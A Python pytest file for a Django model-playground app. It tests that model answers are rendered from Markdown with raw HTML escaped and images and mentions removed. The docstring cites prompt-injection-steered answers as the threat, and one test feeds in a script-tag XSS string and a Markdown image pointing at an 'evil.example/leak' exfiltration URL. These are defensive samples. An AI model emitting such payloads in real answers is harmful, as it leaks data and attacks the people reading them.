"""A model's answer is shown rendered from Markdown, sanitised as a post is, without images or
mentions (an answer steered by a prompt injection must not make readers fetch its URLs)."""
import pytest
from asgiref.sync import async_to_sync
from django.test import Client

from playground import api as playground_api
from playground.answers import answer_html
from playground.events import job_events
from playground.models import GenerationJob
from tests.factories import runnable_model

pytestmark = pytest.mark.django_db


def test_markdown_and_code_are_rendered():
    html = answer_html("Use **pip**:\n\n```python\nimport torch\n```")
    assert "<strong>pip</strong>" in html and 'class="highlight"' in html


def test_raw_html_is_text_and_images_are_dropped():
    html = answer_html('<script>alert(1)</script> ![x](https://evil.example/leak?q=secret)')
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "<img" not in html and "evil.example" not in html


def test_a_name_after_an_at_sign_is_no_mention():
    assert "<a" not in answer_html("Ask @alice.")


def test_the_run_page_shows_the_answer_rendered_and_keeps_its_text(user):
    job = GenerationJob.objects.create(user=user, resource=runnable_model(), mode="chat", params={},
                                       status="succeeded", output="1. **Red**\n2. Blue")
    client = Client()
    client.force_login(user)
    page = client.get(job.get_absolute_url()).content.decode()
    assert "<li><strong>Red</strong></li>" in page and 'data-source="1. **Red**\n2. Blue"' in page


def test_a_pages_stream_ends_with_the_answer_rendered_and_v1s_without(user):
    job = GenerationJob.objects.create(user=user, resource=runnable_model(), mode="chat", params={},
                                       status="succeeded", output="**Hi**")

    async def final(events) -> dict:
        return [event async for event in events][-1].data

    assert async_to_sync(final)(playground_api._job_events(job, 0))["output_html"] == "<p><strong>Hi</strong></p>\n"
    assert "output_html" not in async_to_sync(final)(job_events(job))  # what /v1/ reads


def test_a_stream_of_a_run_deleted_meanwhile_just_ends(user):
    job = GenerationJob.objects.create(user=user, resource=runnable_model(), mode="chat", params={},
                                       status="succeeded", output="Hi")
    GenerationJob.objects.filter(pk=job.pk).delete()  # from another tab, while this reader waits

    async def events() -> list:
        return [event async for event in playground_api._job_events(job, 0)]

    assert async_to_sync(events)() == []
